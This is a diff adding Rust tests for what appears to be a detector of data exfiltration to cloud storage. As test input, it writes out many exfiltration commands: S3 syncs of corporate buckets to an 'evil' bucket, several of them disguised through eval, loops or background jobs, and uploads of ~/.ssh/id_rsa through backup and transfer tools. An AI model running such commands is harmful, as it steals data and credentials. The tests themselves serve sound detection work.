@@ -384,6 +384,18 @@ fn environment_and_endpoints() {
     assert_eq!(typed.alert().tenant.as_deref(), Some("loot"));
 }
 
+/// Jobs, backups to one's own bucket, pushes, installations.
+#[test]
+fn everyday_lines_are_quiet() {
+    let policy = own();
+    let lines = include_str!("commands/everyday.txt").lines().filter(|line| !line.starts_with('#'));
+    let told: Vec<_> = lines.map(|line| (line, run(line, &policy))).collect();
+    assert!(told.len() >= 60, "{}", told.len());
+    for (line, told) in told {
+        assert!(told.alerts().is_empty(), "{line}: {:#?}", told.alerts());
+    }
+}
+
 /// A copy that lets everybody read it is one act, and one alert: of the command, of what it sends, of both.
 #[test]
 fn one_act_is_one_alert() {
@@ -474,4 +486,174 @@ fn a_loop_of_such_acts_is_one_alert() {
     let told = w.tell();
     let alert = told.alert();
     assert_eq!((alert.tenant.as_deref(), alert.reads.len()), (Some("evil"), 2), "{alert:#?}");
+}
+
+/// What a shell is told to run, as far as its text says.
+#[test]
+fn loops_lists_and_substitutions_of_a_shell() {
+    let bash = apple("/bin/bash", "com.apple.bash");
+    let told = |script: &str, env: &[&str]| {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        w.exec_in(
+            1.1,
+            &child,
+            bash,
+            &["bash", "-c", script],
+            "null",
+            &[],
+            &[&["HOME=/Users/alice"][..], env].concat(),
+        );
+        w.tell()
+    };
+    for script in [
+        "for b in corp-data corp-backup; do aws s3 sync s3://$b s3://evil/$b; done",
+        "cd /tmp && aws s3 sync s3://corp-data s3://evil >/dev/null 2>&1 &",
+        "B=evil; aws s3 cp s3://corp-data/x \"s3://${B}/x\"",
+        "if aws s3 ls s3://evil; then aws s3 sync s3://corp-data s3://evil; fi",
+        "(sleep 5; aws s3 sync s3://corp-data s3://evil) | tee log",
+        "echo $(aws s3 sync s3://corp-data s3://evil)",
+        "while read -r b; do aws s3 sync s3://$b s3://evil; done < list.txt",
+        "cat list | xargs -I{} sh -c 'aws s3 sync s3://{} s3://evil'",
+        "find . -name '*.csv' -exec aws s3 mv s3://corp-data/{} s3://evil/ \\;",
+        "function f { aws s3 sync s3://corp-data s3://evil; }; f",
+        "eval \"aws s3 sync s3://corp-data s3://evil\"",
+        "true\n# aws s3 sync s3://a s3://b\naws s3 sync s3://corp-data s3://evil\n",
+        "python3 -c 'x'; env -i PATH=/bin aws s3 sync s3://corp-data s3://evil || true",
+    ] {
+        let script = script.replace("\\n", "\n");
+        let told = told(&script, &[]);
+        assert_eq!(told.alert().tenant.as_deref(), Some("evil"), "{script}");
+    }
+    let elsewhere =
+        told("AWS_ENDPOINT_URL=https://s3.wasabisys.com aws s3 sync s3://corp-data s3://corp-backup", &[]);
+    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
+    // Where the text does not say whose it is, nothing is claimed.
+    for script in [
+        "aws s3 sync s3://corp-data s3://$UNSET",
+        "aws s3 sync s3://corp-data s3://$(cat target)",
+        "for b in $(cat targets); do aws s3 sync s3://corp-data s3://$b; done",
+        "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission \"Add=[{UserId=$ACCOUNT}]\"",
+    ] {
+        let told = told(script, &[]);
+        let alert = told.low();
+        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{script}");
+    }
+    for script in [
+        "for b in corp-data corp-archive; do aws s3 sync s3://$b s3://corp-backup/$b; done",
+        "echo aws s3 sync s3://corp-data s3://evil",
+        "git commit -m 'aws s3 sync s3://corp-data s3://evil' # aws s3 sync s3://corp-data s3://evil",
+        "cat > job.sh <<'END'\naws s3 sync s3://corp-data s3://evil\nEND\nchmod +x job.sh",
+        "aws s3 ls s3://evil | grep x && aws s3 cp s3://evil/x .",
+        "B=evil; B=corp-backup; aws s3 sync s3://corp-data s3://$B",
+    ] {
+        told(script, &[]).none();
+    }
+}
+
+/// A command line, what its environment adds, the host it sends to, and the tenant expected.
+type Line<'a> = (&'a [&'a str], &'a [&'a str], &'a str, Option<&'a str>);
+
+/// Backup tools, scripts of transfer programs, and what the environment says of them.
+#[test]
+fn other_tools_name_files_and_places() {
+    let key = ".ssh/id_rsa";
+    let table: &[Line<'_>] = &[
+        (
+            &["duplicity", "full", "/Users/alice/.ssh", "boto3+s3://evil/x"],
+            &[],
+            "s3.amazonaws.com",
+            Some("evil"),
+        ),
+        (&["duplicity", "/Users/alice/.ssh", "b2://id:key@evil/x"], &[], "api.backblazeb2.com", Some("evil")),
+        (&["kopia", "snapshot", "create", "/Users/alice/.ssh"], &[], "s3.amazonaws.com", None),
+        (&["borg", "create", "ssh://u@u.repo.borgbase.com/./repo::a", key], &[], "u.repo.borgbase.com", None),
+        (&["borg", "create", "::a", key], &["BORG_REPO=ssh://u@rsync.net/./r"], "u.rsync.net", None),
+        (
+            &["restic", "backup", key],
+            &["RESTIC_REPOSITORY=s3:s3.amazonaws.com/evil"],
+            "s3.amazonaws.com",
+            Some("evil"),
+        ),
+        (&["restic", "-r", "b2:evil:x", "backup", key], &[], "api.backblazeb2.com", Some("evil")),
+        (
+            &["lftp", "-u", "u,p", "-e", "put .ssh/id_rsa; bye", "sftp://u.your-storagebox.de"],
+            &[],
+            "u.your-storagebox.de",
+            None,
+        ),
+        (
+            &["lftp", "-c", "open -u u,p u.your-storagebox.de; mirror -R .ssh /x"],
+            &[],
+            "u.your-storagebox.de",
+            None,
+        ),
+        (&["bash", "-c", "sftp u@rsync.net <<< 'put .ssh/id_rsa'"], &[], "rsync.net", None),
+        (&["bash", "-c", "sftp -b - u@rsync.net <<EOF\ncd x\nput .ssh/id_rsa\nEOF"], &[], "rsync.net", None),
+        (&["ncftpput", "-u", "u", "u.your-storagebox.de", "/x", key], &[], "u.your-storagebox.de", None),
+        (&["s4cmd", "put", key, "s3://evil/k"], &[], "s3.amazonaws.com", Some("evil")),
+        (
+            &["swift", "upload", "evil", key],
+            &["OS_STORAGE_URL=https://storage.gra.cloud.ovh.net/v1/AUTH_x"],
+            "storage.gra.cloud.ovh.net",
+            Some("evil"),
+        ),
+        (&["duck", "--upload", "s3://evil/k", key], &[], "s3.amazonaws.com", Some("evil")),
+        (&["mega-exec", "put", key, "/x"], &[], "g.api.mega.co.nz", None),
+        (&["megaput", "--path", "/Root", key], &[], "g.api.mega.co.nz", None),
+    ];
+    for (line, env, host, tenant) in table {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        let program = tool(line[0].to_owned().leak());
+        let p =
+            w.exec_in(1.1, &child, program, line, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
+        w.upload(2.0, &p, host, 20_000);
+        let told = w.tell();
+        let alert = told.one_of_any_confidence();
+        assert_eq!(alert.tenant.as_deref(), *tenant, "{line:?}");
+        assert!(
+            alert.reads.iter().any(|read| read.evidence.as_str() == "argv"),
+            "{line:?}: {:?}",
+            alert.reads
+        );
+        assert!(alert.reads.iter().all(|read| read.path.to_string().contains("/.ssh")), "{line:?}");
+    }
+}
+
+/// The name of a profile or role may tell whose account a copy is made in. Names are given at will: they accuse, and excuse
+/// nothing.
+#[test]
+fn profiles_that_name_accounts_accuse() {
+    let told = |args: &[&str], env: &[&str]| {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        w.exec_in(1.1, &child, tool("aws"), args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
+        w.tell()
+    };
+    let copy =
+        ["aws", "ec2", "copy-snapshot", "--source-region", "us-east-1", "--source-snapshot-id", "snap-1"];
+    let by_option = [&copy[..], &["--profile", "AdministratorAccess-999988887777"]].concat();
+    for (args, env) in [
+        (&by_option[..], &[][..]),
+        (&copy, &["AWS_PROFILE=Admin-999988887777"]),
+        (&copy, &["AWS_ROLE_ARN=arn:aws:iam::999988887777:role/x"]),
+    ] {
+        let told = told(args, env);
+        assert_eq!(told.one_of_any_confidence().tenant.as_deref(), Some("999988887777"), "{args:?} {env:?}");
+    }
+    for env in [&[][..], &["AWS_PROFILE=ops"], &["AWS_PROFILE=AdministratorAccess-111122223333"]] {
+        let told = told(&copy, env);
+        assert_eq!(
+            (told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()),
+            (None, "unknown"),
+            "{env:?}"
+        );
+    }
 }
